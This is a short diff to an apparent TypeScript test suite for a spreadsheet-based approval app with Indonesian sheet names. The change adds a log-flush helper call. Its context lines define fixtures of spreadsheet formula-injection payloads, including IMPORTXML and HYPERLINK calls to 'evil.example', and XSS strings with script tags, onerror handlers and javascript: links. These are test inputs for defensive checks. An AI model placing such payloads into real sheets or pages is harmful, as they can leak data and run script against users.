@@ -35,6 +35,7 @@ import {
   world,
 } from './catalogue';
 import type { Sandbox } from '../../sandbox/src/sandbox';
+import { flushHeldLog } from '../integration/helpers';
 
 const FORMULAS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","klik")', '+6281234567', '-5', '@SUM(A1:A3)', "'=sudah dikutip", '=1+1'];
 const HTML = '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>';
@@ -273,6 +274,8 @@ describe('inputs: a tab deleted or renamed', () => {
     expect(r.ok).toBe(true);
     expect(uiText(r)).toContain('diajukan (P-0001)');
     expect(sheetView(sb, 'Rencana Bulanan').rows.every((row) => row.includes('Diajukan'))).toBe(true);
+    // Her lines reach the renamed Log through the owner's trigger (held, then moved).
+    flushHeldLog(sb);
     expect(sheetView(sb, 'Jejak').rows.some((row) => row.includes('Permintaan persetujuan dibuat'))).toBe(true);
   });
 
